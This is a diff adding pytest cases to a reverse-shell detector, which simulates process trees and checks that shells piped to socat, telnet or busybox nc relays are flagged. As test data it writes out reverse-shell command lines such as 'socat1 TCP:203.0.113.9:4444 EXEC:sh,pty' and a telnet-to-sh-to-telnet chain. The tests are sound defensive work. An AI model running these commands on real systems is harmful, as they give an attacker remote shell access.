@@ -62,6 +62,52 @@ def test_a_shell_between_a_fifo_and_nc_is_found_by_its_pipes(tree: ProcTree) -> 
     assert found(tree) == [("sh", "203.0.113.9", "pipes to a relay")]
 
 
+@pytest.mark.parametrize(
+    ("program", "arguments"),
+    [
+        ("/usr/bin/socat1", "socat1 TCP:203.0.113.9:4444 EXEC:sh,pty"),
+        ("/usr/bin/telnet.netkit", "telnet 203.0.113.9 4444"),
+        ("/usr/bin/busybox", "busybox nc 203.0.113.9 4444"),
+        ("/bin/busybox", "/bin/nc 203.0.113.9 4444"),
+    ],
+)
+@pytest.mark.parametrize("fifo", ["/tmp/f", "/dev/shm/f", "pipe:[11]"])
+def test_a_relay_is_known_by_the_names_that_distributions_give_it(
+    tree: ProcTree, program: str, arguments: str, fifo: str
+) -> None:
+    tree.connection(7)
+    tree.process("/usr/bin/dash", stdio=(fifo, "pipe:[12]", "pipe:[12]"))
+    tree.process(program, arguments=arguments, stdio=("pipe:[12]", fifo, "/dev/pts/0"), sockets=(7,))
+
+    assert found(tree) == [("dash", "203.0.113.9", "pipes to a relay")]
+
+
+def test_a_shell_between_two_relays_is_found_by_the_pipes_of_both(tree: ProcTree) -> None:
+    """telnet 203.0.113.9 4444 | sh | telnet 203.0.113.9 4445"""
+    tree.connection(7)
+    tree.connection(8, remote_port=4445)
+    tree.process("/usr/bin/telnet", stdio=("/dev/pts/0", "pipe:[11]", "/dev/pts/0"), sockets=(7,))
+    tree.process("/usr/bin/sh", stdio=("pipe:[11]", "pipe:[12]", "/dev/pts/0"))
+    tree.process("/usr/bin/telnet", stdio=("pipe:[12]", "/dev/pts/0", "/dev/pts/0"), sockets=(8,))
+
+    assert found(tree) == [("sh", "203.0.113.9", "pipes to a relay")]
+
+
+def test_other_applets_of_busybox_and_a_script_that_sends_its_output_away_are_none(tree: ProcTree) -> None:
+    tree.connection(7)
+    tree.process("/usr/bin/dash", stdio=("/dev/shm/list", "pipe:[12]", "/dev/null"))
+    tree.process(
+        "/usr/bin/busybox",
+        arguments="busybox wget -O- http://203.0.113.9/",
+        stdio=("pipe:[12]", "/dev/shm/list", "/dev/null"),
+        sockets=(7,),
+    )
+    tree.process("/usr/bin/sh", stdio=("pipe:[5]", "pipe:[6]", "/dev/null"))
+    tree.process("/usr/bin/nc", stdio=("pipe:[6]", "/dev/null", "/dev/null"), sockets=(7,))
+
+    assert found(tree) == []
+
+
 def test_the_shells_of_people_and_jobs_are_none(tree: ProcTree) -> None:
     tree.connection(7, local_port=22, remote_port=51000)
     tree.connection(1, local_port=22, state=10)
